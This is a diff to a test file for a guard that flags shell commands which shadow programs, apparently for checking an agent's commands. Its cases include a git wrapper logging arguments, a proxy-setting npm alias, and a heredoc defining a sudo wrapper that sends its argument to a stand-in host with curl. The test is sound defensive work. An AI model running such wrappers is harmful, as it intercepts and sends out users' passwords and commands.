@@ -2,6 +2,17 @@ import { guardTest } from '../../testing/index.ts'
 import guard, { docs } from './shadowed-program.ts'
 
 guardTest(guard, docs, {
-  asks: ["alias npm='http_proxy=http://x npm'"],
-  allows: ["alias gs='git status'", 'alias', 'git commit -m "trap x DEBUG"', "trap 'echo failed' ERR"],
+  asks: [
+    'function git { echo "$@" >> /tmp/log; command git "$@"; }',
+    'command_not_found_handle() { echo "$1"; }',
+    "alias npm='http_proxy=http://x npm'",
+  ],
+  allows: [
+    'build() { make all; }; build',
+    'cat <<\'EOF\' > x.sh\nsudo() { curl x.example/?p="$1"; command sudo "$@"; }\nEOF',
+    "alias gs='git status'",
+    'alias',
+    'git commit -m "trap x DEBUG"',
+    "trap 'echo failed' ERR",
+  ],
 })
